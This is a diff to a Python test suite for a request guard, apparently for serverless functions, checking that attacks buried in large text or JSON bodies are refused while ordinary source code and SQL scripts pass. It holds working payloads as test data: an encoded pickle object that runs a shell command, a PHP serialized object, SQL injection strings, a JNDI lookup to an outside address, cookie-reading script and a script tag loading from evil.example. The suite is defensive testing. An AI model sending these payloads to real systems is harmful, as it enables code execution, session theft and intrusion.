@@ -1,12 +1,16 @@
 """Large events, through the guard: what is found in them, what passes, and that nobody is held up."""
 
 import base64
+import gzip
 import json
 import random
+import zlib
+from pathlib import Path
 from urllib.parse import quote_plus
 
 import pytest
 
+import lambdaguard
 from lambdaguard import guard
 from lambdaguard.rules import patience
 
@@ -22,6 +26,9 @@ ATTACKS = [
     "http:/0x7f000001/",
     "\u2019 or \u20181\u2019=\u20181",
     b"cposix\nsystem\n(S'id'\ntR.".hex(),
+    zlib.compress(b"cposix\nsystem\n(S'id'\ntR.").hex(),
+    b'O:7:"Account":1:{s:4:"name";s:2:"id";}'.hex().upper(),
+    base64.b32encode(b"cposix\nsystem\n(S'id'\ntR.").decode(),
 ]
 
 
@@ -85,6 +92,56 @@ def test_a_line_of_a_long_text(attack, at, kind, capsys):
     refused = handler(posted(kind, body), None)["statusCode"] == 403
     page = f"{text[max(at - 1_000, 0) : at]}\n{attack}\n{text[at : at + 1_000]}"
     assert refused == (handler(posted("text/plain", page), None)["statusCode"] == 403)
+
+
+@pytest.mark.parametrize("written", [base64.b64encode, lambda data: data.hex().encode()], ids=["base64", "hexadecimal"])
+@pytest.mark.parametrize("packed", [bytes, zlib.compress, gzip.compress])
+@pytest.mark.parametrize("at", [30_000, 32 * 1024 * 3 - 6, 150_000])
+def test_an_object_as_a_line_of_a_long_text(written, packed, at, capsys):
+    text = "\n".join(["We met on Monday, and it was fine."] * 9_000)
+    at = text.rfind("\n", 0, at) + 1
+    line = written(packed(b"cposix\nsystem\n(S'id'\ntR.")).decode()
+    assert handler(posted("text/plain", f"{text[:at]}{line}\n{text[at:]}"), None)["statusCode"] == 403
+
+
+def sources(folder, size):
+    """Source code that speaks of attacks: the law book's own, and whatever stands beside it."""
+    files = sorted((Path(lambdaguard.__file__).parent / folder).glob("**/*.py"))
+    return "".join(file.read_text(encoding="utf-8") for file in files)[:size]
+
+
+PROSE = "We met on Monday, and it was fine.\n" * 900
+SCRIPT = "".join(
+    f"-- {name}\nDROP TABLE IF EXISTS {name};\nCREATE TABLE {name} (id int NOT NULL, note varchar({40 + at}) DEFAULT '');\n"
+    f"INSERT INTO {name} VALUES ({at}, 'it''s {name}'), ({at + 1}, '');\nSELECT * FROM {name} WHERE id = 1 OR 1=1;\n"
+    for at, name in enumerate(f"orders_{number}" for number in range(400))
+)
+
+
+@pytest.mark.parametrize("text", [sources("rules", 20_000), sources("rules", 90_000), sources(".", 1_000_000), SCRIPT], ids=len)
+@pytest.mark.parametrize("kind", ["text/plain", "application/json"])
+def test_source_code_passes(text, kind, capsys):
+    body = json.dumps({"name": "main", "content": text}) if kind == "application/json" else text
+    assert handler(posted(kind, body), None)["statusCode"] == 200
+    assert not capsys.readouterr().out.count('"blocked"')
+
+
+@pytest.mark.parametrize(
+    ("before", "attack", "after"),
+    [
+        ("", "<script>alert(document.cookie)</script>", "\n" + sources("lexers", 60_000)),
+        (sources("lexers", 60_000), "${jndi:ldap://203.0.113.66/a}", sources("lexers", 60_000)),
+        ("", 'O:7:"Account":1:{s:4:"name";s:2:"id";}', sources("lexers", 60_000)),
+        (
+            "We met on Monday, and it was fine.\n" * 900,
+            "<script src=//evil.example/x.js></script>",
+            "\n" + sources("lexers", 1_800),
+        ),
+    ],
+    ids=["before code", "in a log", "an object first", "in prose beside code"],
+)
+def test_source_code_covers_no_more_than_itself(before, attack, after, capsys):
+    assert handler(posted("text/plain", f"{before}{attack}{after}"), None)["statusCode"] == 403
 
 
 @pytest.mark.parametrize("paragraphs", [5, 400])
